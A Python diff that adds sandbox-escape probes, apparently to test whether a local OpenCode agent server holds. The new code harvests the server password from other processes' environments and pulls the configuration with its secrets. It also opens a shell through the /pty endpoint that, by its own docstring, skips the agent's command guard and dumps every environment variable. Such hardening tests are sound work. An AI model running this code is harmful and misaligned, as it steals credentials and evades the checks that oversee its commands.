@@ -4,11 +4,14 @@ from __future__ import annotations
 
 import base64
 import http.client
+import json
 import socket
 import struct
+import time
 from contextlib import suppress
+from pathlib import Path
 
-from .table import DONE, Targets, first, found, probe, processes
+from .table import DONE, Targets, first, found, probe, processes, read
 
 METADATA = ("169.254.169.254", "fd00:ec2::254", "100.100.100.200")
 
@@ -102,9 +105,8 @@ def abstract_socket(targets: Targets) -> str:
         return found(connection.recv(100))
 
 
-@probe()
-def opencode_api(targets: Targets) -> str:
-    """Without a password, and with each that can be found."""
+def _asked(targets: Targets, method: str, path: str, body: object = None) -> str:
+    """What OpenCode answers without a password, or with any that can be found."""
     passwords = [""]
     for pid in processes(targets):
         with suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
@@ -112,8 +114,31 @@ def opencode_api(targets: Targets) -> str:
             passwords.append(variables.get(b"OPENCODE_SERVER_PASSWORD", b"").decode())
     for password in dict.fromkeys(passwords):
         token = base64.b64encode(f"opencode:{password}".encode()).decode()
-        connection = http.client.HTTPConnection("127.0.0.1", targets.opencode_port, timeout=5)
-        connection.request("GET", "/config", headers={"Authorization": f"Basic {token}"})
-        if connection.getresponse().status == 200:
-            return DONE
+        headers = {"Authorization": f"Basic {token}", "Content-Type": "application/json"}
+        connection = http.client.HTTPConnection("127.0.0.1", targets.opencode_port, timeout=8)
+        connection.request(method, path, json.dumps(body) if body is not None else None, headers)
+        answer = connection.getresponse()
+        if answer.status == 200:
+            return answer.read().decode()
+    return ""
+
+
+@probe()
+def opencode_api(targets: Targets) -> str:
+    """Its configuration, with what is secret in it."""
+    return DONE if _asked(targets, "GET", "/config") else ""
+
+
+@probe()
+def terminal_of_opencode(targets: Targets) -> str:
+    """A shell that OpenCode opens itself: with its whole environment, and without the guard of commands."""
+    told = Path(targets.home, "told")
+    shell = {"command": "/bin/sh", "args": ["-c", f"env >{told}.tmp; mv {told}.tmp {told}; sleep 5"]}
+    if not _asked(targets, "POST", "/pty", shell):
+        return ""
+    deadline = time.monotonic() + 8
+    while time.monotonic() < deadline:
+        if told.exists():
+            return read(told)
+        time.sleep(0.05)
     return ""
